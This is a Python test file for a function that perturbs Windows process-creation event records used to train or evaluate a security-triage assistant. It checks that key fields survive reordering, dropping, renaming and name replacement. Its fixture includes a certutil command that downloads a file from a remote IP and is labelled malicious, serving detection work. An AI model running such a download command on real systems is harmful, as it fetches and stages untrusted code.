"""Shaken events keep what a verdict rests on, change the rest, and are the same for the same seed."""

from secassist.evaluation.examples import Example
from secassist.training.shaking import shake

EVENT = {
    "EventID": 4688,
    "Computer": "ws-17",
    "SubjectUserName": "mia.berg",
    "CommandLine": "certutil -urlcache -f http://198.51.100.7/x",
    "ProcessGuid": "{8d2f}",
    "ThreadID": 12,
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "details": {"TargetUserName": "mia.berg", "note": "as is"},
}


def example(**given: object) -> Example:
    return Example("a", "T1", "ours", {"event": EVENT, "rule": {"title": "t"}, **given}, {"verdict": "malicious"}, "g")


def values(event: dict) -> set[str]:
    return {str(v) for value in event.values() for v in (value.values() if isinstance(value, dict) else [value])}


def test_what_the_verdict_rests_on_stays():
    for seed in range(20):
        shaken = shake(example(), seed)
        assert EVENT["CommandLine"] in values(shaken.input["event"]) and "as is" in values(shaken.input["event"])
        assert shaken.input["rule"] == {"title": "t"} and shaken.label == {"verdict": "malicious"}
        assert shaken.group == "g" and shaken.id != "a"


def test_people_and_hosts_are_replaced_alike_everywhere():
    event = shake(example(), 1, ("replace",)).input["event"]
    assert event["SubjectUserName"] == event["details"]["TargetUserName"] != "mia.berg"
    assert event["Computer"] != "ws-17" and event["CommandLine"] == EVENT["CommandLine"]


def test_each_trick_does_its_own():
    assert list(shake(example(), 2, ("order",)).input["event"]) != list(EVENT)
    assert set(shake(example(), 2, ("order",)).input["event"]) == set(EVENT)
    sizes = {len(shake(example(), seed, ("drop",)).input["event"]) for seed in range(20)}
    assert min(sizes) < len(EVENT) and all(
        "CommandLine" in shake(example(), s, ("drop",)).input["event"] for s in range(20)
    )
    named = {name for seed in range(10) for name in shake(example(), seed, ("rename",)).input["event"]}
    assert {"process.command_line", "CommandLine"} <= named


def test_the_same_seed_gives_the_same_and_other_inputs_are_left_alone():
    assert shake(example(), 3) == shake(example(), 3)
    assert shake(example(), 3) != shake(example(), 4)
    bare = Example("b", "T3", "ours", {"command": "ls"}, {}, "g")
    assert shake(bare, 3) is bare
